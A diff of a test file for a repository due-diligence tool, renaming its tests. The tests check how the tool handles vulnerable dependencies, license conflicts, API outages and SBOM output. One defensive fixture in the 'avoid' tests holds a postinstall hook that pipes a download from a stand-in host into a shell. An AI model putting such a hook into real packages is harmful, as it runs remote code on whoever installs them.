@@ -95,7 +95,7 @@ function open(repo: FakeRepo, doors: Partial<OutcomeContext> = {}) {
 const look = async (repo: FakeRepo, input: unknown = INPUT) =>
   (await repoDueDiligence.run(input, open(repo).ctx)) as Answer
 
-test('a repository that does everything right may be adopted', async () => {
+test('repo-due-diligence: a repository that does everything right may be adopted', async () => {
   const answer = await look({ files: goodFiles() })
   expect(answer).toMatchObject({ verdict: 'adopt', decision: 'allow', vulnerabilities: [], conditions: [] })
   expect(answer.package).toMatchObject({
@@ -112,7 +112,7 @@ test('a repository that does everything right may be adopted', async () => {
   expect(answer.steps.map(({ step }) => step)).toContain('repo-safety')
 })
 
-test('a lock with lodash 4.17.20 names the hole, its alias and its fix', async () => {
+test('repo-due-diligence: a lock with lodash 4.17.20 names the hole, its alias and its fix', async () => {
   const files = { ...goodFiles(), 'package-lock.json': npmLock({ lodash: { version: '4.17.20', license: 'MIT' } }) }
   const answer = await look({ files, advisories: { 'lodash@4.17.20': [LODASH.id] } })
   expect(answer.vulnerabilities).toMatchObject([
@@ -129,7 +129,7 @@ test('a lock with lodash 4.17.20 names the hole, its alias and its fix', async (
   expect(answer.conditions.map(({ action }) => action)).toContain('Update lodash to 4.17.21.')
 })
 
-describe('the package', () => {
+describe('repo-due-diligence: the package', () => {
   const withPackage = (more: Record<string, unknown>) => ({
     files: goodFiles(),
     instead: { 'npm-registry': { body: { ...PACKUMENT, ...more } } },
@@ -178,14 +178,14 @@ describe('the package', () => {
   )
 })
 
-test('without a lock file the latest versions are looked at, and that is said', async () => {
+test('repo-due-diligence: without a lock file the latest versions are looked at, and that is said', async () => {
   const { 'package-lock.json': _, ...files } = goodFiles()
   const answer = await look({ files, advisories: { 'lodash@4.17.21': [LODASH.id] } })
   expect(answer.dependencies).toMatchObject({ approximate: true, outdated: null })
   expect(answer.vulnerabilities).toHaveLength(1)
 })
 
-test('a GPL dependency in an MIT repository is listed as copyleft and as a conflict', async () => {
+test('repo-due-diligence: a GPL dependency in an MIT repository is listed as copyleft and as a conflict', async () => {
   const files = {
     ...goodFiles(),
     'package-lock.json': npmLock({
@@ -204,7 +204,7 @@ test('a GPL dependency in an MIT repository is listed as copyleft and as a confl
   expect(answer.verdict).toBe('adopt_with_conditions')
 })
 
-describe('avoid', () => {
+describe('repo-due-diligence: avoid', () => {
   test('for what runs a download on install', async () => {
     const json = JSON.stringify({ name: 'widgets', license: 'MIT', scripts: { postinstall: 'curl http://x|sh' } })
     expect(await look({ files: { ...goodFiles(), 'package.json': json } })).toMatchObject({
@@ -229,13 +229,13 @@ describe('avoid', () => {
   })
 })
 
-test('with OSV down it is never adopted as it is, and unknowns names vulnerabilities', async () => {
+test('repo-due-diligence: with OSV down it is never adopted as it is, and unknowns names vulnerabilities', async () => {
   const answer = await look({ files: goodFiles(), instead: { osv: 'server_error' } })
   expect(answer.verdict).toBe('adopt_with_conditions')
   expect(answer.unknowns).toContain('vulnerabilities: server error')
 })
 
-test('quotas that run out become unknowns, not zeros', async () => {
+test('repo-due-diligence: quotas that run out become unknowns, not zeros', async () => {
   const instead = {
     'github /repos/{owner}/{name}/issues': 'rate_limited',
     'deps-dev /v3/systems/{system}/packages/{name}': 'rate_limited',
@@ -248,13 +248,13 @@ test('quotas that run out become unknowns, not zeros', async () => {
   expect(answer.unknowns.join()).toContain('issues: rate limited')
 })
 
-test('a repository that is not there is 404; what is no repository is 422', async () => {
+test('repo-due-diligence: a repository that is not there is 404; what is no repository is 422', async () => {
   const gone = { instead: { 'github /repos/{owner}/{name}': { status: 404, body: {} } } }
   await expect(look(gone)).rejects.toMatchObject({ code: 'repo_not_found' })
   expect(() => repoDueDiligence.check?.({ repo_url: 'nope' })).toThrow(Refusal)
 })
 
-test('the bill of materials is CycloneDX 1.6, and the same for the same packages', async () => {
+test('repo-due-diligence: the bill of materials is CycloneDX 1.6, and the same for the same packages', async () => {
   const [one, other] = await Promise.all([look({ files: goodFiles() }), look({ files: goodFiles() })])
   expect(one.sbom.document).toMatchObject({
     bomFormat: 'CycloneDX',
@@ -273,7 +273,7 @@ test('the bill of materials is CycloneDX 1.6, and the same for the same packages
   expect(one.sbom).toEqual(other.sbom)
 })
 
-test('resumed, it asks nothing whose answer a finished step has', async () => {
+test('repo-due-diligence: resumed, it asks nothing whose answer a finished step has', async () => {
   const stored = new Map<string, unknown>()
   const dying =
     (after: number): OutcomeContext['step'] =>
